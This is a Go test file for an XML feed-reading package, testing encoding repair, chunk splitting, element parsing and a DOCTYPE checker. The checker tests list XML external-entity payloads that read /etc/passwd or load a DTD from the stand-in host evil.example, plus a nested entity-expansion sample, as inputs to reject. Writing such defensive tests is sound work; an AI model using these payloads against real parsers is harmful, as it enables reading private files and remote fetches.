// SPDX-FileCopyrightText: The Stet authors
// SPDX-License-Identifier: MIT

package spool

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestText(t *testing.T) {
	t.Parallel()
	wide := func(s string, order func(hi, lo byte) []byte) string {
		var b []byte
		for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
			b = append(b, order(byte(u>>8), byte(u))...)
		}
		return string(b)
	}
	tests := []struct {
		name, in, want    string
		repaired, dropped int
	}{
		{"plain", "Zoë", "Zoë", 0, 0},
		{"byte order mark", "\xef\xbb\xbfZoë", "Zoë", 0, 0},
		{"Latin 1 declared", "<?xml version='1.0' encoding='ISO-8859-1'?>Zo\xeb", "<?xml version='1.0' encoding='ISO-8859-1'?>Zoë", 0, 0},
		{"UTF-16 little end first", wide("Zoë", func(hi, lo byte) []byte { return []byte{lo, hi} }), "Zoë", 0, 0},
		{"UTF-16 big end first", wide("Zoë", func(hi, lo byte) []byte { return []byte{hi, lo} }), "Zoë", 0, 0},
		{"Windows-1252 in UTF-8", "Zo\xeb \x93q\x94 Zoë", "Zoë “q” Zoë", 3, 0},
		{"control characters", "a\x00b\x08c\uffffd\te\n", "abcd\te\n", 0, 3},
		{"an encoding that nobody knows", "<?xml version='1.0' encoding='klingon'?>Zoë", "<?xml version='1.0' encoding='klingon'?>Zoë", 0, 0},
		{"cut within a character", "Zo\xc3", "ZoÃ", 1, 0},
	}
	for _, tt := range tests {
		for name, r := range map[string]io.Reader{"whole": strings.NewReader(tt.in), "byte by byte": iotest.OneByteReader(strings.NewReader(tt.in))} {
			text := NewText(r)
			got, err := io.ReadAll(text)
			if err != nil || strings.TrimPrefix(string(got), "\ufeff") != tt.want || text.Repaired != tt.repaired || text.Dropped != tt.dropped {
				t.Errorf("%s, %s: %q, %v, repaired %d, dropped %d; want %q, %d, %d", tt.name, name, got, err, text.Repaired, text.Dropped, tt.want, tt.repaired, tt.dropped)
			}
		}
	}
}

// chunks reads all chunks as "name@line: data", broken ones with their error.
func chunks(t testing.TB, src string, depth, max int) []string {
	t.Helper()
	s := NewSplitter(iotest.HalfReader(strings.NewReader(src)), depth)
	if max > 0 {
		s.max = max
	}
	if _, err := s.Root(); err != nil {
		return []string{"root: " + err.Error()}
	}
	var out []string
	for {
		c, err := s.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			return append(out, "error: "+err.Error())
		}
		line := c.Name + "@" + c.Position.String() + ": " + string(c.Data)
		if c.Err != nil {
			line += " !" + c.Err.Error()
		}
		out = append(out, line)
	}
}

func TestSplitter(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		max      int
		want     []string
	}{
		{"items", "<r>\n<c>\n<item>a</item>\n<item/><title>t</title></c></r>", 0,
			[]string{"item@line 3, byte 8: <item>a</item>", "item@line 4, byte 23: <item/>", "title@line 4, byte 30: <title>t</title>"}},
		{"CDATA, comments and quotes", `<r><c><!-- <item> --><item a=">"><![CDATA[</item>]]></item></c></r>`, 0, []string{`item@line 1, byte 21: <item a=">"><![CDATA[</item>]]></item>`}},
		{"no end tag", "<r><c><item>a<item>b</item></c></r>", 0, []string{"item@line 1, byte 6: <item>a !its end tag is missing", "item@line 1, byte 13: <item>b</item>"}},
		{"cut off", "<r><c><item>a</item><item>b", 0, []string{"item@line 1, byte 6: <item>a</item>", "item@line 1, byte 20: <item>b !the file ends within it"}},
		{"the parent ends", "<r><c><item>a</c></r>", 0, []string{"item@line 1, byte 6: <item>a !its end tag is missing"}},
		{"too large", "<r><c><item>" + strings.Repeat("x", 300_000) + "</item><item>b</item></c></r>", 100_000, []string{"item@line 1, byte 6:  !it has more than 0 MB", "item@line 1, byte 300019: <item>b</item>"}},
		{"items a level too high", "<r><item>a</item></r>", 0, []string{"item@line 1, byte 3: <item>a</item>"}},
		{"stray signs", "<r><c>a < b & c <item>1 < 2</item></c></r>", 0, []string{"item@line 1, byte 16: <item>1 < 2</item>"}},
		{"a document type", `<!DOCTYPE r [<!ENTITY a "]>">]><r><c><item/></c></r>`, 0, []string{"item@line 1, byte 37: <item/>"}},
		{"text", "hello <r></r>", 0, []string{"root: it begins with text"}},
		{"nothing", "", 0, []string{"root: there is no element in it"}},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, chunks(t, tt.in, 2, tt.max)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
}

func TestParseElement(t *testing.T) {
	t.Parallel()
	e, faults := ParseElement(`<item a="1" b='&amp;'><title>A &amp; <![CDATA[<b>]]></title><m><k>x</k><v/></m></item>`)
	if len(faults) > 0 || e.Attr("b") != "&" || e.Value("title") != "A & <b>" || e.Child("m").Value("k") != "x" {
		t.Errorf("%+v, faults %v", e, faults)
	}
	if e, faults = ParseElement(`<item><a>x<b>y</b></c></item>`); len(faults) == 0 || e.Child("a") == nil || e.Child("a").Text != "x" {
		t.Errorf("%+v, faults %v; want it mended and said", e, faults)
	}
	if _, faults = ParseElement(strings.Repeat("<a>", 100_000)); len(faults) == 0 {
		t.Error("no fault in an endless nest")
	}
}

func TestCheckDoctype(t *testing.T) {
	t.Parallel()
	for doctype, fine := range map[string]bool{
		"": true, `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/x.dtd">`: true,
		`<!DOCTYPE r [<!ENTITY nbsp "&#160;">]>`: true, `<!DOCTYPE r [<!ENTITY % H PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "x">%H;]>`: true,
		`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`: false, `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>`: false,
		`<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>`: false,
	} {
		if _, err := CheckDoctype(doctype); (err == nil) != fine {
			t.Errorf("CheckDoctype(%s) = %v", doctype, err)
		}
	}
}

// FuzzSplitter: whatever comes in, the chunks are valid UTF-8 pieces of the
// clean text, in order, and it ends.
func FuzzSplitter(f *testing.F) {
	for _, s := range []string{"<r><c><item>a</item></c></r>", "<r><c><item>a<item>", "<!DOCTYPE r [<!ENTITY a \"b\">]><r><![CDATA[x]]><!-- y --></r>", "<r a='>'><c/></r>", "\xff\xfe<\x00r\x00>\x00", "<?xml version='1.0' encoding='koi8-r'?><r>\xc1</r>"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		clean, err := io.ReadAll(NewText(bytes.NewReader(data)))
		if err != nil || !utf8.Valid(clean) {
			t.Fatalf("text: %v, valid %v", err, utf8.Valid(clean))
		}
		s := NewSplitter(bytes.NewReader(clean), 2)
		if _, err := s.Root(); err != nil {
			return
		}
		last := int64(-1)
		for {
			c, err := s.Next()
			if err != nil {
				return
			}
			if c.Position.Offset <= last {
				t.Fatalf("chunk at %d after one at %d", c.Position.Offset, last)
			}
			last = c.Position.Offset
			if !bytes.HasPrefix(clean[last:], c.Data) {
				t.Fatalf("the chunk at %d is not what stands there", last)
			}
			ParseElement(string(c.Data))
		}
	})
}
